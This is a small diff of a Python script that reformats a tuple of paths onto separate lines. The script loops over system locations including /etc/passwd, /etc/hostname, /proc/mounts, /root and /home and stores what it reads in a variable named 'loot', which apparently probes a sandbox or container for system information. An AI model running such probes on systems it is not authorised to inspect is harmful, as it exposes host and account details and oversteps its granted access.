@@ -6,7 +6,14 @@
 
 import os
 
-for path in ("/etc/passwd", "/etc/hostname", "/proc/mounts", "/proc/self/mountinfo", "/root", "/home"):
+for path in (
+    "/etc/passwd",
+    "/etc/hostname",
+    "/proc/mounts",
+    "/proc/self/mountinfo",
+    "/root",
+    "/home",
+):
     try:
         loot = loot or (os.listdir(path) if os.path.isdir(path) else open(path).read(100))
     except OSError:
